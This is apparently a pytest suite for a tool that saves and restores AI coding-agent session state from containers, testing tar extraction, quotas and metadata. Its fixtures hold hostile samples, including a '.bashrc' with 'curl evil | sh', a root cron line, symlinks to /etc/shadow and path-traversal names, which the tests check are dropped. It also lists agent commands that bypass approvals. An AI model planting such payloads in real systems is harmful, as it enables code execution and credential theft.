"""The saved-session store (lib/coi_common/saved_sessions.py) and coi-session, no daemon.

Tar streams here are built by hand with tarfile, so they can hold what a
hostile container could send: links, devices, FIFOs, absolute and `..` names,
entries outside the tool's state. The real-container side is
tests/integration/test_session_resume.py.
"""

import io
import json
import os
import re
import subprocess
import tarfile
import time
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from coi_common import config, naming, protocol, sizes, tools
from coi_common.entry import expand_resume_flags
from coi_common.errors import BadInput, CoiError, ConfigError, NotFound
from coi_session import __doc__ as SESSION_USAGE
from coi_session import main as session_main
from coi_session import saved_sessions
from coi_session.saved_sessions import Quota, SaveResult, Session, StateWriter, Store
from coi_slot import listing

pytestmark = pytest.mark.usefixtures("coi_env")

WORKSPACE = "/home/ana/src/app"
OTHER = "/home/ana/src/other"


# -- helpers ------------------------------------------------------------------------------


def member(name, kind=tarfile.REGTYPE, data=b"", linkname="", mode=0o644):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.linkname = linkname
    info.mode = mode
    info.mtime = 1_700_000_000
    return info, data


def stream(*members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    buffer.seek(0)
    return buffer


def feed(writer, buffer):
    return writer.consume(buffer)


def tree(root):
    return sorted(str(p.relative_to(root)) for p in Path(root).rglob("*"))


def make_session(store_root, session_id, *, tool="dummy", workspace=WORKSPACE,
                 updated_at="2026-03-01T09:00:00.000000Z", files=None, size=0):
    path = Path(store_root) / f"sessions-{tool}" / session_id
    (path / "home").mkdir(parents=True)
    for rel, text in (files or {".dummy/history": "one\n"}).items():
        target = path / "home" / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    session = Session(id=session_id, tool=tool, workspace=workspace, updated_at=updated_at,
                      created_at=updated_at, bytes=size, path=str(path))
    (path / "metadata.json").write_text(json.dumps(session.metadata()))
    return session


@pytest.fixture
def warnings():
    return []


@pytest.fixture
def store(tmp_path, warnings):
    return Store(str(tmp_path / "state"), on_warning=warnings.append)


@pytest.fixture
def home(tmp_path):
    return tmp_path / "saving" / "home"


# -- member names -------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "clean"), [
    (".dummy/history", ".dummy/history"),
    ("./.dummy/history", ".dummy/history"),
    (".dummy//a/./b", ".dummy/a/b"),
    (".dummy/", ".dummy"),
    ("/etc/passwd", None),
    ("../etc/passwd", None),
    (".dummy/../../etc/passwd", None),
    (".dummy/..", None),
    ("", None),
    (".", None),
    ("a\0b", None),
])
def test_member_names_are_normalised_or_refused(name, clean):
    assert saved_sessions.clean_member_name(name) == clean


# -- the untrusted stream -------------------------------------------------------------------


def test_regular_files_and_dirs_of_the_state_are_written(home):
    writer = StateWriter(str(home), [".dummy"], [".dummy.json"])
    result = feed(writer, stream(member(".dummy", tarfile.DIRTYPE),
                                 member(".dummy/history", data=b"a\nb\n"),
                                 member(".dummy/sub/deep", data=b"x"),
                                 member(".dummy.json", data=b"{}")))
    assert (home / ".dummy" / "history").read_bytes() == b"a\nb\n"
    assert (home / ".dummy" / "sub" / "deep").read_bytes() == b"x"
    assert (home / ".dummy.json").read_bytes() == b"{}"
    assert (result.files, result.bytes, result.dropped) == (3, 7, [])


def test_links_devices_fifos_and_unsafe_paths_are_dropped_and_counted(home, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    writer = StateWriter(str(home), [".dummy"], [])
    result = feed(writer, stream(
        member(".dummy/evil", tarfile.SYMTYPE, linkname="/etc/passwd"),
        member(".dummy/hard", tarfile.LNKTYPE, linkname="/etc/shadow"),
        member(".dummy/fifo", tarfile.FIFOTYPE),
        member(".dummy/null", tarfile.CHRTYPE),
        member(".dummy/disk", tarfile.BLKTYPE),
        member("/etc/cron.d/evil", data=b"* * * * * root sh"),
        member(f"../../{outside.name}/planted", data=b"x"),
        member(".bashrc", data=b"curl evil | sh"),
        member(".dummy/ok", data=b"kept")))
    assert tree(home) == [".dummy", ".dummy/ok"]
    assert len(result.dropped) == 8
    assert any("symlink" in d for d in result.dropped)
    assert any("fifo" in d for d in result.dropped)
    assert list(outside.iterdir()) == []


def test_a_file_behind_a_dropped_symlink_never_leaves_home(home, tmp_path):
    target = tmp_path / "target"
    target.mkdir()
    writer = StateWriter(str(home), [".dummy"], [])
    result = feed(writer, stream(
        member(".dummy/link", tarfile.SYMTYPE, linkname=str(target)),
        member(".dummy/link/written", data=b"through the link?")))
    assert list(target.iterdir()) == []
    assert (home / ".dummy" / "link" / "written").read_bytes() == b"through the link?"
    assert not (home / ".dummy" / "link").is_symlink()
    assert len(result.dropped) == 1


def test_the_state_dir_itself_as_a_symlink_saves_nothing(home):
    writer = StateWriter(str(home), [".dummy"], [])
    result = feed(writer, stream(member(".dummy", tarfile.SYMTYPE, linkname="/etc")))
    assert tree(home) == []
    assert result.files == 0
    assert result.dropped == ["'.dummy' (symlink)"]


def test_type_conflicts_are_dropped_not_followed(home):
    writer = StateWriter(str(home), [".dummy"], [".dummy.json"])
    result = feed(writer, stream(member(".dummy/x", data=b"file first"),
                                 member(".dummy/x/y", data=b"under a file"),
                                 member(".dummy.json", tarfile.DIRTYPE),
                                 member(".dummy", data=b"state dir as a file")))
    assert (home / ".dummy" / "x").read_bytes() == b"file first"
    assert len(result.dropped) == 3


def test_injected_credentials_are_skipped_and_counted_apart(home):
    writer = StateWriter(str(home), [".dummy"], [], exclude=[".dummy/credentials.json"])
    result = feed(writer, stream(member(".dummy/credentials.json", data=b"secret"),
                                 member("./.dummy/./credentials.json", data=b"secret"),
                                 member(".dummy/history", data=b"a\n")))
    assert tree(home) == [".dummy", ".dummy/history"]
    assert (result.excluded, result.dropped) == (2, [])


def test_modes_are_owner_only_and_keep_the_execute_bit(home):
    writer = StateWriter(str(home), [".dummy"], [])
    feed(writer, stream(member(".dummy/hook.sh", data=b"#!/bin/sh\n", mode=0o4755),
                        member(".dummy/data", data=b"x", mode=0o666)))
    assert (home / ".dummy" / "hook.sh").stat().st_mode & 0o7777 == 0o700
    assert (home / ".dummy" / "data").stat().st_mode & 0o7777 == 0o600


# -- sparse files and bounds ----------------------------------------------------------------

GIB = 1024**3
DATA_AT = 1024**2


def sparse_file(path, size=3 * GIB):
    """A file of `size` bytes that is one hole but for one block of data at DATA_AT."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as handle:
        handle.truncate(size)
        handle.seek(DATA_AT)
        handle.write(b"x" * 4096)
    return path


def disk_bytes(path):
    return os.lstat(path).st_blocks * 512


def gnu_tar(folder, tar_format, *paths):
    """What the container sends: GNU tar's `--sparse` stream of `paths` under `folder`."""
    done = subprocess.run(["tar", "--sparse", f"--format={tar_format}", "-C", str(folder),
                           "-cf", "-", "--", *paths], capture_output=True, check=True)
    return io.BytesIO(done.stdout)


def sparse_pax_member(name, realsize, entries, data):
    """A PAX 1.0 sparse member built by hand, with any map a hostile tar could send."""
    text = f"{len(entries)}\n" + "".join(f"{o}\n{n}\n" for o, n in entries)
    head = text.encode() + b"\0" * (-len(text) % tarfile.BLOCKSIZE)
    info = tarfile.TarInfo(f"GNUSparseFile.0/{name.rsplit('/', 1)[-1]}")
    info.size = len(head) + len(data)
    info.mode = 0o600
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                        "GNU.sparse.name": name, "GNU.sparse.realsize": str(realsize)}
    return info, head + data


def quota(limit, key="limits.session_size"):
    return Quota(key, limit, f"{limit}B")


@pytest.mark.parametrize("tar_format", ["gnu", "posix"])
def test_a_sparse_file_is_saved_with_its_holes(home, tmp_path, tar_format):
    source = sparse_file(tmp_path / "container" / ".dummy" / "big")
    writer = StateWriter(str(home), [".dummy"], [], quotas=[quota(2 * GIB)])
    result = feed(writer, gnu_tar(tmp_path / "container", tar_format, ".dummy"))
    saved = home / ".dummy" / "big"
    assert saved.stat().st_size == 3 * GIB
    assert disk_bytes(saved) < 1024**2, f"{disk_bytes(saved)} bytes on disk"
    assert result.bytes == 4096  # data, not holes
    with open(saved, "rb") as copy, open(source, "rb") as original:
        copy.seek(DATA_AT - 10)
        original.seek(DATA_AT - 10)
        assert copy.read(5000) == original.read(5000)


def test_the_saved_tree_goes_back_with_its_holes(tmp_path):
    saved = tmp_path / "saved"
    sparse_file(saved / ".dummy" / "big")
    (saved / ".dummy" / "history").write_text("a\n")
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w|", format=tarfile.PAX_FORMAT) as archive:
        files, size = saved_sessions._write_saved_tree(archive, str(saved), {".dummy"})
    assert (files, size) == (2, 4096 + 2)
    assert len(buffer.getvalue()) < 64 * 1024
    restored = tmp_path / "restored"
    restored.mkdir()
    subprocess.run(["tar", "-C", str(restored), "-xf", "-"], input=buffer.getvalue(),
                   check=True)
    big = restored / ".dummy" / "big"
    assert big.stat().st_size == 3 * GIB
    assert disk_bytes(big) < 1024**2
    assert (restored / ".dummy" / "history").read_text() == "a\n"
    with open(big, "rb") as handle:
        handle.seek(DATA_AT)
        assert handle.read(4096) == b"x" * 4096


@pytest.mark.parametrize(("entries", "data"), [
    ([(4096, 10), (0, 10)], b"y" * 20),       # out of order
    ([(0, 10), (5, 10)], b"y" * 20),          # overlapping
    ([(100, 10)], b"y" * 10),                 # past the file's size (100)
    ([(0, 4096)], b"y" * 10),                 # more data than the stream stores
])
def test_a_hostile_sparse_map_is_dropped(home, entries, data):
    realsize = 100 if entries == [(100, 10)] else 8192
    writer = StateWriter(str(home), [".dummy"], [])
    result = feed(writer, stream(sparse_pax_member(".dummy/big", realsize, entries, data),
                                 member(".dummy/next", data=b"after")))
    assert result.dropped == ["'.dummy/big' (bad sparse map)"]
    assert (home / ".dummy" / "next").read_bytes() == b"after"


def test_a_size_no_file_system_can_hold_is_dropped(home):
    writer = StateWriter(str(home), [".dummy"], [])
    result = feed(writer, stream(sparse_pax_member(".dummy/huge", 2**70, [(0, 4)], b"data"),
                                 member(".dummy/next", data=b"after")))
    assert result.dropped == [f"'.dummy/huge' (size {2**70} cannot be stored)"]
    assert tree(home) == [".dummy", ".dummy/next"]


def test_a_malformed_sparse_map_is_a_tar_error_not_a_crash(home):
    info, data = sparse_pax_member(".dummy/big", 8192, [(0, 4)], b"data")
    data = b"not a number\n" + data[len("2\n"):]
    with pytest.raises(tarfile.ReadError, match="malformed"):
        feed(StateWriter(str(home), [".dummy"], []), stream((info, data)))


def test_a_header_larger_than_the_bound_is_refused_without_reading_it_all(home):
    class Endless(io.RawIOBase):
        """A pax header that claims 4 GiB and never ends; counts what was read."""

        def __init__(self):
            info = tarfile.TarInfo("././@PaxHeader")
            info.type = tarfile.XHDTYPE
            info.size = 4 * GIB
            self.head = info.tobuf(tarfile.USTAR_FORMAT)[:tarfile.BLOCKSIZE]
            self.read_bytes = 0

        def readable(self):
            return True

        def readinto(self, buffer):
            chunk = (self.head + b"1" * len(buffer))[:len(buffer)]
            self.head = self.head[len(chunk):]
            buffer[:len(chunk)] = chunk
            self.read_bytes += len(chunk)
            return len(chunk)

    endless = Endless()
    with pytest.raises(CoiError, match=r"tar header .* larger than 8\.0 MiB"):
        feed(StateWriter(str(home), [".dummy"], []), endless)
    assert endless.read_bytes < saved_sessions.HEADER_MAX + 1024**2


def test_a_state_over_the_session_size_stops_before_writing_past_it(home):
    writer = StateWriter(str(home), [".dummy"], [], quotas=[quota(10)])
    with pytest.raises(CoiError) as refused:
        feed(writer, stream(member(".dummy/a", data=b"123456"),
                            member(".dummy/b", data=b"78901")))
    line = refused.value.one_line()
    assert "more than limits.session_size (10B)" in line
    assert "raise limits.session_size" in line
    assert "\n" not in line
    assert tree(home) == [".dummy", ".dummy/a"]


def test_the_tightest_quota_names_itself_and_zero_is_no_limit(home):
    writer = StateWriter(str(home), [".dummy"], [], quotas=[
        quota(0), quota(8, "limits.sessions_total")])
    with pytest.raises(CoiError, match=r"limits\.sessions_total \(8B\)"):
        feed(writer, stream(member(".dummy/a", data=b"123456789")))
    unlimited = StateWriter(str(home.parent / "other"), [".dummy"], [],
                            quotas=[quota(0), quota(0, "limits.sessions_total")])
    assert feed(unlimited, stream(member(".dummy/a", data=b"123456789"))).bytes == 9


def test_holes_do_not_count_against_the_session_size(home, tmp_path):
    sparse_file(tmp_path / "container" / ".dummy" / "big")
    writer = StateWriter(str(home), [".dummy"], [], quotas=[quota(1024**2)])
    assert feed(writer, gnu_tar(tmp_path / "container", "gnu", ".dummy")).files == 1


def test_a_save_stops_before_the_disk_is_nearly_full(home, monkeypatch):
    real = os.statvfs

    def nearly_full(path):
        found = real(path)
        fields = list(found)
        fields[4] = (saved_sessions.DISK_RESERVE + 5) // found.f_frsize  # f_bavail
        return os.statvfs_result(fields)

    monkeypatch.setattr(os, "statvfs", nearly_full)
    writer = StateWriter(str(home), [".dummy"], [])
    with pytest.raises(CoiError, match=r"less than 1\.0 GiB free on the disk"):
        feed(writer, stream(member(".dummy/a", data=b"x" * 1024**2)))
    assert tree(home) == []


@pytest.mark.parametrize(("text", "count"), [("0", 0), ("2GiB", 2 * GIB), ("512MiB", 512 << 20),
                                             ("20GiB", 20 * GIB), ("1GB", 10**9),
                                             ("64KiB", 65536), ("1TiB", 1024 * GIB)])
def test_sizes(text, count):
    assert sizes.parse_size(text) == count


@pytest.mark.parametrize("text", ["", "2", "-1GiB", "2 GiB", "1.5GiB", "GiB", "2gib", "00"])
def test_bad_sizes_are_refused(text):
    with pytest.raises(ValueError, match="is not a size"):
        sizes.parse_size(text)


def test_the_quotas_default_to_2_and_20_gib_and_name_a_bad_value_with_its_source(
        coi_env, monkeypatch):
    per_session, total = saved_sessions.save_quotas(config.load(None))
    assert (per_session.limit, total.limit) == (2 * GIB, 20 * GIB)
    assert str(total) == "limits.sessions_total (20GiB)"
    monkeypatch.setenv("COI_LIMITS_SESSION_SIZE", "2G")
    with pytest.raises(ConfigError) as refused:  # when loaded or, at the latest, when used
        saved_sessions.save_quotas(config.load(None))
    line = refused.value.one_line()
    assert "limits.session_size" in line
    assert "env COI_LIMITS_SESSION_SIZE" in line
    assert "2G" in line


# -- the store: reading -------------------------------------------------------------------


def test_sessions_list_newest_first_by_updated_at(store):
    make_session(store.root, "s-old", updated_at="2026-03-01T09:00:00.000000Z")
    make_session(store.root, "s-new", updated_at="2026-03-01T09:00:00.500000Z")
    make_session(store.root, "s-claude", tool="claude", updated_at="2026-03-02T00:00:00Z")
    assert [s.id for s in store.sessions()] == ["s-claude", "s-new", "s-old"]
    assert [s.id for s in store.sessions(tool="dummy")] == ["s-new", "s-old"]


def test_corrupt_metadata_is_skipped_with_a_warning_naming_the_file(store, warnings):
    make_session(store.root, "s-good")
    bad = make_session(store.root, "s-bad")
    Path(bad.path, "metadata.json").write_text("{not json")
    assert [s.id for s in store.sessions()] == ["s-good"]
    assert len(warnings) == 1
    assert str(Path(bad.path, "metadata.json")) in warnings[0]
    assert "\n" not in warnings[0]


@pytest.mark.parametrize(("change", "problem"), [
    ({"coi": 2}, "newer coi"),
    ({"kind": "slot"}, "kind"),
    ({"id": "s-elsewhere"}, "not its directory"),
    ({"updated_at": "yesterday"}, "updated_at"),
    ({"workspace": 3}, "no workspace"),
    ({"tool": "claude"}, "sessions-dummy"),
])
def test_metadata_that_does_not_fit_is_skipped(store, warnings, change, problem):
    session = make_session(store.root, "s-odd")
    data = {**session.metadata(), **change}
    Path(session.path, "metadata.json").write_text(json.dumps(data))
    assert store.sessions() == []
    assert problem in warnings[0]


def test_a_session_directory_without_metadata_is_skipped(store, warnings):
    (Path(store.root) / "sessions-dummy" / "s-empty").mkdir(parents=True)
    assert store.sessions() == []
    assert "no metadata.json" in warnings[0]


def test_find_refuses_malformed_ids_and_reports_missing_ones(store):
    with pytest.raises(BadInput, match="not allowed"):
        store.find("../../etc")
    with pytest.raises(NotFound):
        store.find("s-none")


def test_resume_without_id_takes_the_latest_of_this_workspace_and_tool_only(store):
    make_session(store.root, "s-mine-old", updated_at="2026-03-01T09:00:00Z")
    make_session(store.root, "s-mine-new", updated_at="2026-03-01T10:00:00Z")
    make_session(store.root, "s-other-ws", workspace=OTHER, updated_at="2026-03-02T00:00:00Z")
    make_session(store.root, "s-other-tool", tool="claude", updated_at="2026-03-03T00:00:00Z")
    assert store.for_resume(WORKSPACE, "dummy").id == "s-mine-new"
    assert store.for_resume("/home/ana/src/none", "dummy") is None


def test_resume_by_id_refuses_another_workspace_and_another_tool(store):
    make_session(store.root, "s-other-ws", workspace=OTHER)
    make_session(store.root, "s-claude", tool="claude")
    with pytest.raises(CoiError, match="another workspace"):
        store.for_resume(WORKSPACE, "dummy", "s-other-ws")
    with pytest.raises(BadInput) as caught:
        store.for_resume(WORKSPACE, "dummy", "s-claude")
    assert "--tool claude" in caught.value.one_line()
    assert store.for_resume(OTHER, "dummy", "s-other-ws").id == "s-other-ws"


def original_session(store_root, folder, *, tool="dummy", **metadata):
    """A session as the original coi lays it out: its own metadata.json, the tool's
    state directory beside it."""
    path = Path(store_root) / f"sessions-{tool}" / folder
    (path / ".dummy").mkdir(parents=True)
    (path / ".dummy" / "history").write_text("from the original\n")
    data = {"session_id": folder, "container_name": "claude-aabbcc-1",
            "persistent": False, "workspace": WORKSPACE,
            "saved_at": "2024-01-15T10:30:00Z", **metadata}
    (path / "metadata.json").write_text(json.dumps(data))
    return path


def test_a_session_saved_by_the_original_is_listed_with_its_own_fields(store, warnings):
    path = original_session(store.root, "abc123", persistent=True)
    make_session(store.root, "s-ours", updated_at="2026-03-01T09:00:00Z")
    found = store.sessions(workspace=WORKSPACE)
    assert [s.id for s in found] == ["s-ours", "abc123"]
    old = found[1]
    assert (old.tool, old.layout, old.container, old.persistent) == (
        "dummy", "original", "claude-aabbcc-1", True)
    assert old.updated_at == "2024-01-15T10:30:00.000000Z"
    assert old.home == str(path)
    assert store.for_resume(WORKSPACE, "dummy", "abc123") == old
    assert warnings == []


@pytest.mark.parametrize(("change", "problem"), [
    ({"session_id": "elsewhere"}, "not its directory"),
    ({"workspace": "relative/path"}, "absolute"),
    ({"workspace": None}, "no workspace"),
    ({"saved_at": "yesterday"}, "saved_at"),
])
def test_an_original_metadata_that_does_not_fit_is_skipped(store, warnings, change,
                                                          problem):
    original_session(store.root, "abc123", **change)
    assert store.sessions() == []
    assert problem in warnings[0]


def test_restoring_an_original_session_sends_the_state_but_not_its_metadata(store,
                                                                          tmp_path):
    session = store.find(original_session(store.root, "abc123").name)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w|", format=tarfile.PAX_FORMAT) as archive:
        saved_sessions._write_saved_tree(archive, session.home, {".dummy"})
    buffer.seek(0)
    with tarfile.open(fileobj=buffer, mode="r|") as archive:
        assert sorted(m.name for m in archive) == [".dummy", ".dummy/history"]


def test_saving_a_resumed_original_session_forks_and_keeps_the_original(store):
    path = original_session(store.root, "abc123")
    old = store.find("abc123")
    session, how = store.commit(staged(store, "more\n"), fields(), current_id="abc123",
                                base=old.updated_at)
    assert (how, session.resumed_from, session.layout) == ("forked", "abc123", "coi")
    assert session.id != "abc123"
    assert (path / ".dummy" / "history").read_text() == "from the original\n"
    assert store.find("abc123").layout == "original"


# -- the store: saving ----------------------------------------------------------------------


def fields(**extra):
    return Session(id="", tool="dummy", workspace=WORKSPACE, updated_at="", slot=1,
                   container="coi-1a2b3c4d-1", **extra)


def staged(store, text):
    tmp = store.new_tmp("dummy")
    Path(tmp, "home", ".dummy").mkdir(parents=True)
    Path(tmp, "home", ".dummy", "history").write_text(text)
    return tmp


def history(session):
    return Path(session.home, ".dummy", "history").read_text()


def test_a_first_save_creates_a_session_with_full_metadata(store):
    session, how = store.commit(staged(store, "a\n"), fields())
    assert how == "created"
    data = json.loads(Path(session.path, "metadata.json").read_text())
    protocol.validate(data, "session")
    for key in ("id", "tool", "workspace", "workspace_hash", "slot", "container", "image",
                "persistent", "created_at", "updated_at", "coi_version"):
        assert key in data
    assert data["created_at"] == data["updated_at"]
    assert (data["ID"], data["SavedAt"], data["Workspace"]) == (
        session.id, session.updated_at, WORKSPACE)
    assert history(session) == "a\n"


def test_saving_again_from_the_same_state_updates_the_same_session(store):
    first, _ = store.commit(staged(store, "a\n"), fields())
    second, how = store.commit(staged(store, "a\nb\n"), fields(), current_id=first.id,
                               base=first.updated_at)
    assert (how, second.id, second.created_at) == ("updated", first.id, first.created_at)
    assert second.updated_at > first.updated_at
    assert history(second) == "a\nb\n"
    assert [s.id for s in store.sessions()] == [first.id]


def test_a_save_from_a_stale_copy_forks_instead_of_overwriting(store):
    first, _ = store.commit(staged(store, "a\n"), fields())
    store.commit(staged(store, "a\nslot1\n"), fields(), current_id=first.id,
                 base=first.updated_at)
    forked, how = store.commit(staged(store, "a\nslot2\n"), fields(), current_id=first.id,
                               base=first.updated_at)
    assert how == "forked"
    assert forked.id != first.id
    assert forked.resumed_from == first.id
    assert history(store.find(first.id)) == "a\nslot1\n"
    assert history(forked) == "a\nslot2\n"


def test_a_deleted_session_is_saved_again_under_its_id(store):
    first, _ = store.commit(staged(store, "a\n"), fields())
    store.delete(first)
    again, how = store.commit(staged(store, "b\n"), fields(), current_id=first.id,
                              base=first.updated_at)
    assert (again.id, how) == (first.id, "created")


def test_saves_leave_no_temp_dirs_and_the_lock_file_only(store):
    first, _ = store.commit(staged(store, "a\n"), fields())
    store.commit(staged(store, "b\n"), fields(), current_id=first.id, base=first.updated_at)
    names = sorted(os.listdir(store.tool_dir("dummy")))
    assert names == [".lock", first.id]


def test_temp_dirs_of_dead_savers_are_removed_but_live_ones_kept(store):
    live = staged(store, "in progress\n")
    dead = Path(store.tool_dir("dummy"), ".tmp-999999999-abc")
    dead.mkdir()
    store.commit(staged(store, "a\n"), fields())
    assert Path(live).exists()
    assert not dead.exists()


def test_without_renameat2_the_swap_still_works(store, monkeypatch):
    monkeypatch.setattr(saved_sessions, "_exchange", lambda a, b: False)
    first, _ = store.commit(staged(store, "a\n"), fields())
    second, _ = store.commit(staged(store, "b\n"), fields(), current_id=first.id,
                             base=first.updated_at)
    assert history(second) == "b\n"


def test_a_swap_cut_between_its_two_renames_is_put_back(store):
    first, _ = store.commit(staged(store, "a\n"), fields())
    folder = Path(store.tool_dir("dummy"))
    (folder / first.id).rename(folder / f".old-{first.id}.1a2b3c4d")
    assert store.sessions() == []
    store.commit(staged(store, "other\n"), fields())
    assert history(store.find(first.id)) == "a\n"


def test_metadata_is_written_atomically(tmp_path):
    folder = tmp_path / "session"
    folder.mkdir()
    target = folder / "metadata.json"
    target.write_text('{"old": true}')
    protocol.write_json_atomic(str(target), {"new": True})
    assert json.loads(target.read_text()) == {"new": True}
    assert os.listdir(folder) == ["metadata.json"]


# -- delete and prune -------------------------------------------------------------------------


def test_delete_removes_the_directory(store):
    session = make_session(store.root, "s-gone")
    store.delete(session)
    assert not Path(session.path).exists()
    with pytest.raises(NotFound):
        store.find("s-gone")


def test_prune_keeps_the_newest_n_of_each_workspace(store):
    for hour in range(4):
        make_session(store.root, f"s-a{hour}", updated_at=f"2026-03-01T0{hour}:00:00Z")
    make_session(store.root, "s-b", workspace=OTHER, updated_at="2026-01-01T00:00:00Z")
    deleted = store.prune(keep=1)
    assert [s.id for s in deleted] == ["s-a0", "s-a1", "s-a2"]
    assert sorted(s.id for s in store.sessions()) == ["s-a3", "s-b"]


def test_prune_older_than_deletes_by_updated_at_in_one_workspace(store):
    recent = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    make_session(store.root, "s-old", updated_at="2020-01-01T00:00:00Z")
    make_session(store.root, "s-recent", updated_at=recent)
    make_session(store.root, "s-old-other", workspace=OTHER, updated_at="2020-01-01T00:00:00Z")
    deleted = store.prune(older_than=timedelta(days=30), workspace=WORKSPACE)
    assert [s.id for s in deleted] == ["s-old"]
    assert sorted(s.id for s in store.sessions()) == ["s-old-other", "s-recent"]


def test_the_total_quota_removes_the_oldest_sessions_of_any_tool_never_the_new_one(store):
    make_session(store.root, "s-1", updated_at="2026-01-01T00:00:00Z", size=400)
    make_session(store.root, "s-2", tool="other", updated_at="2026-01-02T00:00:00Z", size=300)
    make_session(store.root, "s-3", updated_at="2026-01-03T00:00:00Z", size=300)
    make_session(store.root, "s-new", updated_at="2026-01-04T00:00:00Z", size=500)
    evicted = store.evict(1000, keep="s-new")
    assert [s.id for s in evicted] == ["s-1", "s-2"]
    assert sorted(s.id for s in store.sessions()) == ["s-3", "s-new"]


def test_the_session_just_saved_stays_even_when_it_is_the_oldest(store):
    make_session(store.root, "s-kept", updated_at="2026-01-01T00:00:00Z", size=900)
    make_session(store.root, "s-2", updated_at="2026-01-02T00:00:00Z", size=900)
    assert [s.id for s in store.evict(1000, keep="s-kept")] == ["s-2"]
    assert [s.id for s in store.evict(1, keep="s-kept")] == []


def test_a_total_of_zero_removes_nothing(store):
    make_session(store.root, "s-1", size=10**12)
    assert store.evict(0, keep="s-other") == []
    assert [s.id for s in store.sessions()] == ["s-1"]


def test_a_save_that_removed_sessions_says_which_in_one_line():
    session = Session(id="s-new", tool="dummy", workspace=WORKSPACE, updated_at="x")
    result = SaveResult("coi-1a2b3c4d-1", session, "created", 1, 10,
                        evicted=tuple(f"s-{n}" for n in range(7)),
                        total_quota="limits.sessions_total (20GiB)")
    line = result.line()
    assert "\n" not in line
    assert line.endswith("; removed the 7 oldest saved session(s) to stay within "
                         "limits.sessions_total (20GiB): s-0, s-1, s-2, s-3, s-4 and 2 more")
    assert result.to_record()["evicted"] == [f"s-{n}" for n in range(7)]


@pytest.mark.parametrize(("text", "seconds"), [("45s", 45), ("90m", 5400), ("12h", 43200),
                                               ("30d", 2592000), ("2w", 1209600)])
def test_durations(text, seconds):
    assert saved_sessions.parse_duration(text).total_seconds() == seconds


@pytest.mark.parametrize("text", ["", "30", "d", "-1d", "1.5h", "0d", "3y", "1 d"])
def test_bad_durations_are_one_line_errors(text):
    with pytest.raises(BadInput):
        saved_sessions.parse_duration(text)


# -- settings and credentials ---------------------------------------------------------------


def test_deep_merge_merges_objects_key_by_key():
    base = {"theme": "dark", "permissions": {"allow": ["Bash(ls)"]}, "list": [1]}
    merged = saved_sessions.deep_merge(base, {"permissions": {"defaultMode": "bypass"},
                                              "list": [2]})
    assert merged == {"theme": "dark", "list": [2],
                      "permissions": {"allow": ["Bash(ls)"], "defaultMode": "bypass"}}
    assert base["permissions"] == {"allow": ["Bash(ls)"]}


def host_file(rel, text):
    path = Path(os.environ["HOME"]) / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def test_settings_keep_the_hosts_keys_and_permissions_and_add_cois(coi_env):
    dummy = tools.load_registry()["dummy"]
    host_file(".dummy/settings.json", '{"theme": "host", "permissions": {"allow": ["ls"]}}')
    text = saved_sessions.merged_settings(dummy, b'{"inside": 1}', with_host=True)
    assert json.loads(text) == {"inside": 1, "theme": "host", "managed_by": "coi",
                                "permissions": {"allow": ["ls"], "mode": "autonomous"}}


def test_settings_leave_the_host_out_when_credentials_are_not_injected(coi_env):
    dummy = tools.load_registry()["dummy"]
    host_file(".dummy/settings.json", '{"theme": "host"}')
    text = saved_sessions.merged_settings(dummy, None, with_host=False)
    assert "theme" not in json.loads(text)


def test_a_settings_file_that_is_not_json_is_never_overwritten(coi_env, capsys):
    dummy = tools.load_registry()["dummy"]
    assert saved_sessions.merged_settings(dummy, b"[1, 2", with_host=False) is None
    assert "not valid JSON" in capsys.readouterr().err


def test_unchanged_settings_are_not_rewritten(coi_env):
    dummy = tools.load_registry()["dummy"]
    current = json.dumps({"managed_by": "coi", "permissions": {"mode": "autonomous"}}).encode()
    assert saved_sessions.merged_settings(dummy, current, with_host=False) is None


def test_credentials_come_only_from_the_listed_host_files(coi_env):
    dummy = tools.load_registry()["dummy"]
    host_file(".dummy/credentials.json", '{"token": "t"}')
    host_file(".dummy/private-notes", "not for containers")
    extras = saved_sessions.credential_extras(dummy)
    assert [(e.rel, e.data, e.mode) for e in extras] == [
        (".dummy/credentials.json", b'{"token": "t"}', 0o600)]


def test_claude_credentials_follow_mount_claude_config_unless_the_tool_table_says(coi_env):
    def injects(text):
        (coi_env.config_home / "coi" ).mkdir(exist_ok=True)
        (coi_env.config_home / "coi" / "config.toml").write_text(text)
        settings = config.load(None)
        claude = tools.registry_from_config(settings)["claude"]
        return saved_sessions.injects_credentials(claude, settings)

    assert injects("") is True
    assert injects("[defaults]\nmount_claude_config = false\n") is False
    assert injects("[defaults]\nmount_claude_config = false\n"
                   "[tools.claude]\ninject_credentials = true\n") is True


# -- the registry entries ------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "command", "state", "package"), [
    ("aider", ["aider", "--yes-always", "--restore-chat-history"], (".aider",), "aider-chat"),
    ("codex", ["codex", "--dangerously-bypass-approvals-and-sandbox", "resume", "--last"],
     (".codex",), "@openai/codex"),
    ("gemini", ["gemini", "--yolo", "--resume", "latest"], (".gemini",),
     "@google/gemini-cli"),
])
def test_more_tools_are_data(name, command, state, package):
    tool = tools.load_registry()[name]
    assert tool.command(resume=True) == command
    assert tool.state_dirs == state
    assert tool.credential_files
    assert tool.install.package == package


def test_a_tools_settings_must_be_a_table_of_json_values():
    with pytest.raises(BadInput, match="settings"):
        tools.load_registry({"dummy": {"settings": "bypass"}})
    assert tools.load_registry({"dummy": {"settings": {"a": {"b": [1]}}}})["dummy"].settings \
        == {"a": {"b": [1]}}


# -- coi-list compatibility ---------------------------------------------------------------------


def test_coi_list_all_reads_the_metadata_written_here(store, monkeypatch):
    session, _ = store.commit(staged(store, "a\n"), fields())
    monkeypatch.setenv("COI_PATHS_STATE_DIR", store.root)
    found = listing.saved_sessions()
